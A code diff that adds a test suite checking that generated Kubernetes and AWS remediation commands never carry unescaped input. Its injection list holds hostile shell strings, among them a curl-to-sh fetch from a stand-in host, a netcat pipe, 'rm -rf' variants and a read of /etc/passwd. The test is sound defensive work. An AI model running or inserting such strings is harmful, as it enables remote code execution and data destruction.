@@ -12,6 +12,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startServer, type RunningServer } from '../../functions/cli/commands/serve.js';
 import { jsonText, showControls } from '../../functions/core/stages/compose/index.js';
 import type { Plan } from '../../functions/core/ask/index.js';
+import { actionsFor, shellQuote } from '../../functions/core/stages/infer/actions.js';
 
 let out: string;
 let server: RunningServer;
@@ -164,5 +165,23 @@ describe('terminal escapes never reach a terminal or a JSON string unescaped', (
     const res = await request('POST', '/v1/diagnoses', json, JSON.stringify({ evidence }));
     expect(res.status).toBeLessThan(300);
     expect(res.body).not.toMatch(/[\u001b\u0007\u202e]/);
+  });
+});
+
+describe('remediation commands never run what came from input', () => {
+  const INJECTIONS = ['$(curl evil.example|sh)', '`reboot`', 'x; rm -rf ~', 'a && curl evil', "o'brien", 'x|nc evil 4444', '${IFS}cat${IFS}/etc/passwd', 'a\nrm -rf /', '--kubeconfig=/tmp/evil', 'Checkout'];
+  it.each(INJECTIONS)('a namespace, pod or alarm named %j', (bad) => {
+    const k8s = actionsFor('oom_killed', { namespace: bad, pod: bad, workload: `deployment/${bad}`, container: bad });
+    for (const a of k8s) {
+      expect(a.command ?? '').not.toContain(bad);
+      if (a.command?.includes('<namespace>')) expect(a.description).toMatch(/not filled in: .*namespace .* is not a valid Kubernetes name/);
+    }
+    const aws = actionsFor('alarm_misconfigured', { platform: 'aws', alarm: bad, region: 'eu-west-1' });
+    for (const a of aws) {
+      const command = a.command ?? '';
+      // The alarm name may hold any printable text: it is single-quoted, so nothing in it is expanded.
+      if (!/[\n]/.test(bad) && command.includes('--alarm-name')) expect(command).toContain(/^[^"$`\\!]*$/.test(bad) ? `"${bad}"` : shellQuote(bad));
+      expect(command).not.toMatch(/"[^"]*[$`][^"]*"/);
+    }
   });
 });
